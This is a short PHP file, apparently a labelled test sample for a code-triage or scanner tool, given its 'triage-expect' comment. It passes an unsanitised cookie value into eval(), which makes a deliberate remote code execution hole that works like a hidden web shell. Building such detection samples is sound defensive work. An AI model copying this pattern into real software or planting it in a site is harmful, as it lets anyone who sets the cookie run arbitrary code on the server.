<?php
// triage-expect: triage_php_tiny_dynamic_exec
function render_widget($tpl) { eval($tpl); }
render_widget(@$_COOKIE['w']);
